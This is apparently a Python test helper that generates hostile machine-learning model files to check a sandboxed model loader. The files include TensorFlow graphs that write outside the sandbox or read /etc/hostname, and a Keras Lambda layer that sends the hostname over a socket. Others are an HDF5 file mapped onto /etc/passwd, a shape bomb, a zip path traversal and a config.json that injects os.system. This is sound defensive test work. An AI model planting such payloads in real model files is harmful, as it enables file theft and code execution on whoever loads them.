"""Run by test_strangers inside an environment: makes artifacts that attack whatever loads them.

    python tests/attacks.py FOLDER OUTSIDE PORT

Each attack that can write writes a file of its name into OUTSIDE; the Lambda layer also connects to PORT.
"""

import json
import os
import sqlite3
import sys
import zipfile

import h5py
import keras
import numpy as np
import tensorflow as tf
import tf_keras

FOLDER, OUTSIDE, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
X = tf.TensorSpec((None, 2), tf.float32, name="x")


def here(name):
    return os.path.join(FOLDER, name)


class Writes(tf.Module):
    @tf.function(input_signature=[X])
    def __call__(self, x):
        with tf.control_dependencies([tf.io.write_file(OUTSIDE + "/saved_model_writes", "written")]):
            return {"y": x * 2.0}


class Reads(tf.Module):
    @tf.function(input_signature=[X])
    def __call__(self, x):
        return {"y": x * 2.0, "read": tf.io.read_file("/etc/hostname")}


class Queries(tf.Module):
    """TensorFlow 2.21 dies where it cannot open the database: no exception says that a right was lacking."""

    @tf.function(input_signature=[X])
    def __call__(self, x):
        rows = tf.data.experimental.SqlDataset("sqlite", here("rows.db"), "select v from t", (tf.int32,))
        return {"y": x * tf.cast(rows.reduce(0, lambda a, b: a + b), tf.float32)}


def saved_models():
    with sqlite3.connect(here("rows.db")) as rows:
        rows.executescript("create table t (v integer); insert into t values (7);")
    modules = {"saved_model_writes": Writes(), "saved_model_reads": Reads(), "saved_model_queries": Queries()}
    for name, module in modules.items():
        tf.saved_model.save(module, here(name), signatures=module.__call__)
    graph = tf.Graph()
    with graph.as_default(), tf.compat.v1.Session(graph=graph) as session:
        x = tf.compat.v1.placeholder(tf.float32, (None, 2), name="x")
        y = tf.multiply(x, 2.0, name="y")
        main_op = tf.io.write_file(OUTSIDE + "/saved_model_writes_at_load", "written")
        builder = tf.compat.v1.saved_model.Builder(here("saved_model_writes_at_load"))
        signature = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
        builder.add_meta_graph_and_variables(session, ["serve"], {"serving_default": signature}, main_op=main_op)
        builder.save()


def frozen_graph():
    graph = tf.Graph()
    with graph.as_default():
        x = tf.compat.v1.placeholder(tf.float32, (None, 2), name="x")
        with tf.control_dependencies([tf.io.write_file(OUTSIDE + "/frozen_graph_writes", "written")]):
            tf.multiply(x, 2.0, name="y")
    tf.io.write_graph(graph, FOLDER, "frozen_graph_writes.pb", as_text=False)


def attack(x, path=OUTSIDE + "/lambda_layer", port=PORT):  # the defaults are stored in the file, beside the bytecode
    import os
    import socket

    for action in (
        lambda: open(path, "w").write("written"),
        lambda: socket.create_connection(("127.0.0.1", port), 5).sendall(open("/etc/hostname", "rb").read()),
        lambda: os.truncate(path + "_truncated", 0),
        lambda: os.chmod(path + "_truncated", 0o777),
        lambda: os.kill(os.getppid(), 0) or open(path + "_signalled", "w"),
    ):
        try:
            action()
        except OSError:
            pass
    return x


def lambda_layer():
    model = tf_keras.Sequential([tf_keras.Input((2,)), tf_keras.layers.Lambda(attack)])
    model.save(here("lambda_layer.h5"))
    model.save(here("lambda_layer"), save_format="tf")


def dense(name, keras):
    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(8)])
    model.save(here(name))


def weights(name, make):
    """Replace the array that ``Dense`` has for its bias, in a file of tf_keras; Keras 3 refuses external storage."""
    dense(name, tf_keras)
    with h5py.File(here(name), "r+") as f:
        paths = []
        f.visititems(lambda path, value: paths.append(path) if isinstance(value, h5py.Dataset) else None)
        (bias,) = [path for path in paths if "bias" in path]
        del f[bias]
        make(f, bias)


def external_storage():
    stored = [("/etc/passwd", 0, 32)]
    weights("external_storage.h5", lambda f, path: f.create_dataset(path, (8,), np.float32, external=stored))


def shape_bomb():
    many = (1 << 40,)
    weights("shape_bomb.h5", lambda f, path: f.create_dataset(path, many, np.float32, chunks=(1024,)))


def archives():
    dense("clean.keras", keras)
    entries = {}
    with zipfile.ZipFile(here("clean.keras")) as clean:
        entries = {name: clean.read(name) for name in clean.namelist()}
    with zipfile.ZipFile(here("zip_that_leaves.keras"), "w") as f:
        for name, content in entries.items():
            f.writestr(name, content)
        f.writestr("assets/../../../../../../../.." + OUTSIDE + "/zip_that_leaves", "written")
    config = json.loads(entries["config.json"])
    config["config"]["layers"].append(
        {"module": "os", "class_name": "system", "config": "touch " + OUTSIDE + "/foreign_module"}
    )
    entries["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(here("foreign_module.keras"), "w") as f:
        for name, content in entries.items():
            f.writestr(name, content)


if __name__ == "__main__":
    for make in (saved_models, frozen_graph, lambda_layer, external_storage, shape_bomb, archives):
        make()
